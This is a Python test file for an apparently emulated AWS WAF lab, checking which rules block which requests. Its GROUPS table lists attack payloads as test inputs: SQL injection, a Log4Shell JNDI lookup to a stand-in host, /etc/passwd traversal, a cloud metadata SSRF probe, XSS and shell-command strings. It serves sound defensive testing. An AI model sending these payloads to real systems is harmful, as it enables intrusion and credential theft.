"""What rules make of single requests: the examples of the developer guide and of the managed groups' descriptions."""

from typing import Any

import pytest

from tests.lab.edge import Edge
from tests.lab.wall import (
    ABROAD,
    BODY,
    COMMON,
    HOME,
    IMPORT,
    NOTE,
    OFFICE,
    PATH,
    QUERY,
    REPUTATION,
    Wall,
    contains,
    ip_set,
    looks,
    managed,
    rule,
    watched,
)

LOWERED = [{"Priority": 0, "Type": "URL_DECODE"}, {"Priority": 1, "Type": "LOWERCASE"}]
GROUPS = {
    "AWSManagedRulesSQLiRuleSet": [("/items?id=1%27%20OR%20%271%27%3D%271", {}, b"")],
    "AWSManagedRulesKnownBadInputsRuleSet": [
        ("/", {"X-Api-Version": "${jndi:ldap://x.example/a}"}, b""),
        ("/WEB-INF/web.xml", {}, b""),
        ("/", {"Host": "localhost"}, b""),
    ],
    "AWSManagedRulesCommonRuleSet": [
        ("/?file=../../etc/passwd", {}, b""),
        ("/?url=http://169.254.169.254/latest/meta-data/", {}, b""),
        ("/?next=http://192.0.2.13/x", {}, b""),
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", {}, b""),
        ("/backup.bak", {}, b""),
        ("/?" + "a" * 2100, {}, b""),
        ("/", {"Cookie": "a=" + "b" * 10_300}, b""),
        ("/" + "a" * 1100, {}, b""),
        ("/", {}, b"x" * 8193),
        ("/", {"User-Agent": "nessus"}, b""),
    ],
    "AWSManagedRulesLinuxRuleSet": [("/?f=/proc/version", {}, b"")],
    "AWSManagedRulesUnixRuleSet": [("/?x=echo%20$HOME", {}, b"")],
    "AWSManagedRulesPHPRuleSet": [("/?x=fsockopen(", {}, b"")],
    "AWSManagedRulesAdminProtectionRuleSet": [("/sqlmanager", {}, b"")],
    "AWSManagedRulesAnonymousIpList": [("/", {"X-Lab-Client": "192.0.2.200"}, b"")],
}
BROWSER = {"User-Agent": "Mozilla/5.0"}


@pytest.mark.parametrize("group", GROUPS)
def test_a_managed_group_blocks_the_examples_of_its_description_and_not_a_browser(edge: Edge, group: str) -> None:
    Wall(edge, managed(group))
    assert edge.get("/api/v1/health?q=tea%20and%20scones", headers=BROWSER).status == 200
    for path, headers, body in GROUPS[group]:
        got = edge.get(path, headers=BROWSER | headers, method="POST" if body else "GET", body=body or None)
        assert (path[:40], got.status, got.headers["Server"]) == (path[:40], 403, "awselb/2.0")


def test_an_address_on_amazons_list_is_blocked(edge: Edge) -> None:
    Wall(edge, managed(REPUTATION))
    assert edge.get("/").status == 200
    edge.lab.control("hidden", **{f"address_listed:AWSManagedIPReputationList/{OFFICE}": 1})
    assert edge.get("/", headers={"X-Lab-Client": OFFICE}).status == 403
    assert edge.get("/", headers={"X-Lab-Client": HOME}).status == 200


NOT_AT_HOME = {"NotStatement": {"Statement": {"GeoMatchStatement": {"CountryCodes": ["AU", "NZ"]}}}}
FROM_PROXY = {"HeaderName": "X-Forwarded-For", "FallbackBehavior": "MATCH"}
JSON_BODY = {"JsonBody": {"MatchPattern": {"IncludedPaths": ["/user/role"]}, "MatchScope": "VALUE"}}
SAID_NO = {
    "CustomResponse": {
        "ResponseCode": 429,
        "CustomResponseBodyKey": "slow",
        "ResponseHeaders": [{"Name": "retry-after", "Value": "60"}],
    }
}
LONG = looks("SizeConstraintStatement", QUERY, ComparisonOperator="GT", Size=10)
NUMBERED = looks("RegexMatchStatement", PATH, RegexString=r"^/v\d+/")
KEY = contains({"SingleHeader": {"Name": "x-key"}}, "s3", "EXACTLY")
BOTH = {"AndStatement": {"Statements": [contains(PATH, "/api"), contains(QUERY, "x=1")]}}
EITHER = {"OrStatement": {"Statements": [contains(PATH, "/nope"), contains(QUERY, "x=1")]}}
ROLE = contains(JSON_BODY, "admin", "EXACTLY")
LARGE = {"Scope": "LABEL", "Key": "awswaf:managed:aws:core-rule-set:SizeRestrictions_Body"}
LARGE_ELSEWHERE = {
    "AndStatement": {
        "Statements": [
            {"LabelMatchStatement": LARGE},
            {"NotStatement": {"Statement": contains(PATH, IMPORT, "EXACTLY")}},
        ]
    }
}
MARKED = [
    rule("marks", contains(QUERY, "x=1"), 0, "Count", RuleLabels=[{"Name": "test:odd"}]),
    rule("acts", {"LabelMatchStatement": {"Scope": "LABEL", "Key": "test:odd"}}, 1),
]
EXCEPTED = [managed(COMMON, 0, ("SizeRestrictions_BODY",)), rule("acts", LARGE_ELSEWHERE, 1)]
AGENT, BIG = {"User-Agent": "x"}, b"x" * 9000
# The rules, what is asked (path, headers, body), the status.
SINGLE: list[tuple[list[dict[str, Any]], str, dict[str, str], bytes, int]] = [
    ([rule("geo", NOT_AT_HOME)], "/", {"X-Lab-Client": ABROAD}, b"", 403),
    ([rule("geo", NOT_AT_HOME)], "/", {"X-Lab-Client": HOME}, b"", 200),
    ([rule("bytes", contains(PATH, "/api/v1", "STARTS_WITH"))], "/api/v1/health", {}, b"", 403),
    ([rule("bytes", contains(PATH, "/API/v1", "STARTS_WITH"))], "/api/v1/health", {}, b"", 200),
    ([rule("word", contains(QUERY, "drop", "CONTAINS_WORD"))], "/?a=drop-it", {}, b"", 403),
    ([rule("word", contains(QUERY, "drop", "CONTAINS_WORD"))], "/?a=dropped", {}, b"", 200),
    ([rule("size", LONG)], "/?q=12345678901", {}, b"", 403),
    ([rule("size", LONG)], "/?q=1", {}, b"", 200),
    ([rule("regex", NUMBERED)], "/v12/x", {}, b"", 403),
    ([rule("regex", NUMBERED)], "/vx/x", {}, b"", 404),
    ([rule("xss", looks("XssMatchStatement", BODY))], "/", {}, b"<script>x</script>", 403),
    ([rule("sql", looks("SqliMatchStatement", QUERY))], "/?q=1'--", {}, b"", 403),
    ([rule("json", ROLE)], "/", {}, b'{"user":{"role":"admin"}}', 403),
    ([rule("json", ROLE)], "/", {}, b'{"note":"admin"}', 200),
    ([rule("key", {"NotStatement": {"Statement": KEY}})], "/", {"X-Key": "s3"}, b"", 200),
    ([rule("key", {"NotStatement": {"Statement": KEY}})], "/", {}, b"", 403),
    ([rule("allowed", contains(QUERY, "a"), 0, "Allow"), rule("all", contains(PATH, "/"), 1)], "/?a", {}, b"", 200),
    ([rule("allowed", contains(QUERY, "a"), 2, "Allow"), rule("all", contains(PATH, "/"), 1)], "/?a", {}, b"", 403),
    ([rule("and", BOTH)], "/api/?x=1", {}, b"", 403),
    ([rule("and", BOTH)], "/api/?x=2", {}, b"", 200),
    ([rule("or", EITHER)], "/api/?x=1", {}, b"", 403),
    ([rule("captcha", contains(PATH, "/"), action="Captcha")], "/", {}, b"", 405),
    ([rule("challenge", contains(PATH, "/"), action="Challenge")], "/", {}, b"", 202),
    (MARKED, "/?x=1", {}, b"", 403),
    (MARKED, "/?x=2", {}, b"", 200),
    (EXCEPTED, IMPORT, AGENT, BIG, 200),
    (EXCEPTED, NOTE, AGENT, BIG, 403),
    ([managed(COMMON, ScopeDownStatement=contains(PATH, "/forms", "STARTS_WITH"))], IMPORT, {}, BIG, 200),
    ([managed(COMMON, ExcludedRules=[{"Name": "SizeRestrictions_BODY"}])], IMPORT, AGENT, BIG, 200),
]


@pytest.mark.parametrize("case", SINGLE, ids=lambda case: f"{case[0][0]['Name']} {case[1]} {case[4]}")
def test_a_statement_decides_over_a_request(edge: Edge, case: Any) -> None:
    rules, path, headers, body, status = case
    Wall(edge, *rules)
    assert edge.get(path, headers=headers, method="POST" if body else "GET", body=body or None).status == status


def test_what_is_decoded_before_it_is_looked_at(edge: Edge) -> None:
    statement = contains(QUERY, "<script")
    statement["ByteMatchStatement"]["TextTransformations"] = LOWERED
    Wall(edge, rule("decoded", statement))
    assert edge.get("/?q=%3CSCRIPT%3E").status == 403
    assert edge.get("/?q=script").status == 200


def test_a_forwarded_address_counts_where_the_rule_says_so(edge: Edge) -> None:
    inner = ip_set(edge, "192.0.2.13/32")
    inner["IPSetReferenceStatement"]["IPSetForwardedIPConfig"] = {**FROM_PROXY, "Position": "FIRST"}
    Wall(edge, rule("forwarded", inner))
    assert edge.get("/").status == 200  # Without the header the rule does not apply.
    assert edge.get("/", headers={"X-Forwarded-For": "192.0.2.13, 10.0.0.1"}).status == 403
    assert edge.get("/", headers={"X-Forwarded-For": "192.0.2.14"}).status == 200
    assert edge.get("/", headers={"X-Forwarded-For": "nonsense"}).status == 403


def test_a_regex_set_and_a_rule_group_of_ones_own(edge: Edge) -> None:
    waf = edge.lab.client("wafv2")
    wanted = [{"RegexString": "^/old$"}, {"RegexString": "^/older"}]
    patterns = waf.create_regex_pattern_set(Name="test-patterns", Scope="REGIONAL", RegularExpressionList=wanted)
    inner = looks("RegexPatternSetReferenceStatement", PATH, ARN=patterns["Summary"]["ARN"])
    group = waf.create_rule_group(
        Name="test-group", Scope="REGIONAL", Capacity=50, VisibilityConfig=watched("test-group"),
        Rules=[rule("old", inner)],
    )  # fmt: skip
    outer = {"RuleGroupReferenceStatement": {"ARN": group["Summary"]["ARN"]}}
    used = {"Name": "own", "Priority": 0, "Statement": outer, "OverrideAction": {"None": {}}}
    wall = Wall(edge, used | {"VisibilityConfig": watched("test-own")})
    assert edge.get("/older").status == 403
    assert edge.get("/").status == 200
    wall.change(used | {"VisibilityConfig": watched("test-own"), "OverrideAction": {"Count": {}}})
    assert edge.get("/older").status == 404
    edge.lab.advance(2)
    shown = wall.sampled("test-own")["SampledRequests"]
    assert {each["RuleNameWithinRuleGroup"] for each in shown} == {"test-group#old"}
    assert sorted(each["Action"] for each in shown) == ["BLOCK", "COUNT"]
    assert [each["OverriddenAction"] for each in shown if each["Action"] == "COUNT"] == ["BLOCK"]


def test_a_block_may_have_an_answer_of_its_own(edge: Edge) -> None:
    bodies = {"slow": {"ContentType": "APPLICATION_JSON", "Content": '{"error":"slow down"}'}}
    answered = rule("custom", contains(PATH, "/api", "STARTS_WITH")) | {"Action": {"Block": SAID_NO}}
    Wall(edge, answered, CustomResponseBodies=bodies)
    got = edge.get("/api/v1/health")
    assert (got.status, got.said, got.headers["Content-Type"]) == (429, '{"error":"slow down"}', "application/json")
    assert got.headers["retry-after"] == "60"
